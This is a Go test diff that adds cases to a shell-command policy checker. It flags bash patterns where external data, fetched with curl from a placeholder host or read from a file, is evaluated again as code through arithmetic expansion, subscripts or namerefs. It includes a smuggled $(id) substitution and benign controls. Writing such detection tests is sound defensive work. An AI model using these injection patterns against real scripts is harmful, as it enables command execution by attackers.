@@ -69,7 +69,7 @@ func TestEffects(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, c := range append(effectCases, reboundCases...) {
+	for _, c := range append(append(effectCases, reboundCases...), secondEvalCases...) {
 		cmd := Read(c.cmd)
 		v := pol.Evaluate(cmd, testContext(), testNow)
 		var got UnreadableCode
@@ -125,4 +125,44 @@ var reboundCases = []effectCase{
 	{"set -x; ls", ""},
 	{"cd sub && ls", ""},
 	{"alias; ls", ""},
+}
+
+// secondEvalCases: bash reads a value as code a second time.
+var secondEvalCases = []effectCase{
+	{"x=$(curl -s https://x.io); echo $((x))", UnreadableSecondEval},
+	{"x=$(curl -s https://x.io); echo $(( $x + 1 ))", UnreadableSecondEval},
+	{"echo $(( $(curl -s https://x.io) ))", UnreadableSecondEval},
+	{"curl -s https://x.io | { read x; echo $((x)); }", UnreadableSecondEval},
+	{"read n < f; let n+=1", UnreadableSecondEval},
+	{"read n < f; (( n > 3 )) && ls", UnreadableSecondEval},
+	{"read n < f; [[ $n -eq 3 ]] && ls", UnreadableSecondEval},
+	{"read i < f; echo ${a[$i]}", UnreadableSecondEval},
+	{"read i < f; a[$i]=1", UnreadableSecondEval},
+	{"read o < f; echo ${s:$o:2}", UnreadableSecondEval},
+	{"x='a[$(id)]'; echo $((x))", UnreadableSecondEval},
+	{"read v < f; echo ${!v}", UnreadableSecondEval},
+	{"read p < f; echo ${p@P}", UnreadableSecondEval},
+	{"declare -n r=\"$1\"; echo $r", UnreadableSecondEval},
+	{"local -n r='a[$(id)]'", UnreadableSecondEval},
+	{"printf -v \"$name\" %s x", UnreadableSecondEval},
+	{"read \"$name\" < f", UnreadableSecondEval},
+	{"for f in *; do echo $((f)); done", UnreadableSecondEval},
+	{"echo $((HOSTNAME))", UnreadableSecondEval},
+	{"bash -c 'read x; echo $((x))'", UnreadableSecondEval},
+	// Everyday: numbers the line made, counts, bash's own numbers.
+	{"for i in 1 2 3; do echo $((i * 2)); done", ""},
+	{"for i in {1..5}; do echo $((i+1)); done", ""},
+	{"for ((i=0; i<3; i++)); do echo $i; done", ""},
+	{"n=0; while [ $n -lt 3 ]; do n=$((n+1)); done", ""},
+	{"n=$(wc -l < f); echo $((n + 1))", ""},
+	{"echo $(( $(ls | wc -l) + 1 ))", ""},
+	{"(( $(wc -l < f) > 3 )) || touch g", ""},
+	{"echo $((RANDOM % 10)) $(($#))", ""},
+	{"declare -A m; read k < f; echo ${m[$k]}", ""},
+	{"arr=(a b); echo ${arr[0]} ${arr[@]} ${#arr[@]} ${!arr[@]}", ""},
+	{"x=y; y=3; echo $((x))", ""},
+	{"v=HOME; echo ${!v}", ""},
+	{"read -r line < f; echo \"$line\"", ""},
+	{"printf -v out '%s' x; echo \"$out\"", ""},
+	{"[ \"$x\" -eq 1 ] && ls", ""},
 }
